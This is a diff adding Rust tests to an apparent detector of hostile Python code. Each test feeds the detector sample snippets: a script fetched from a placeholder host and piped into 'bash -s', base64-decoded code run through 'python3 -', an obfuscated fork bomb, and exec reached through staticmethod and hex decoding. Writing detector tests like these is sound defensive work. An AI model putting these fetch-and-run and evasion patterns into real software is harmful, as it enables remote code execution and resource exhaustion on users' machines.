@@ -1556,3 +1556,36 @@ fn payloads_decoded_by_unary_operators_and_arrays() {
         "import array\nCODES = [115, 117, 108, 113, 119, 43, 52, 44]\ncode = array.array('B', (c - 3 for c in CODES)).tobytes().decode()\nexec(compile(code, 'x', 'exec'))\n",
     );
 }
+
+#[test]
+fn code_fed_to_a_child_that_reads_its_program_from_stdin() {
+    // A fetched script written to `bash -s` through `communicate`.
+    fires(
+        "CRD102",
+        "import subprocess, requests\nSPEC = {'url': 'https://get.example.net/setup.sh', 'argv': ['bash', '-s']}\ndef fetch(spec):\n    return requests.get(spec['url'], timeout=9).content\ndef feed(spec, body):\n    p = subprocess.Popen(spec['argv'], stdin=subprocess.PIPE, stdout=subprocess.DEVNULL)\n    p.communicate(body)\nfeed(SPEC, fetch(SPEC))\n",
+    );
+    // Decoded code written to `python3 -` through its stdin handle.
+    fires(
+        "CRD103",
+        "import base64, subprocess\nsrc = base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik=')\nchild = subprocess.Popen(['python3', '-'], stdin=subprocess.PIPE)\nchild.stdin.write(src)\nchild.stdin.close()\nchild.wait()\n",
+    );
+}
+
+#[test]
+fn iterators_of_the_programs_own_that_never_stop() {
+    // `__next__` forks and never raises StopIteration: the `for` over it never ends.
+    fires(
+        "CRD111",
+        "import os\nspawn = getattr(os, ''.join(reversed('krof')))\nclass Replicator:\n    def __iter__(self):\n        return self\n    def __next__(self):\n        return spawn()\nfor _ in Replicator():\n    pass\n",
+    );
+}
+
+#[test]
+fn callables_kept_as_static_methods_and_texts_folded_by_dunder_methods() {
+    // `staticmethod(exec)` as a class attribute, called through the instance with text a
+    // `__str__` decodes from hex.
+    fires(
+        "CRD103",
+        "import builtins, codecs\nclass Template:\n    def __init__(self, raw):\n        self.raw = raw\n    def __str__(self):\n        return codecs.decode(self.raw, 'hex').decode()\nclass Renderer:\n    engine = staticmethod(vars(builtins)['ex' + 'ec'])\n    def render(self, tpl):\n        self.engine(str(tpl), {})\nRenderer().render(Template('7072696e742831290a'))\n",
+    );
+}
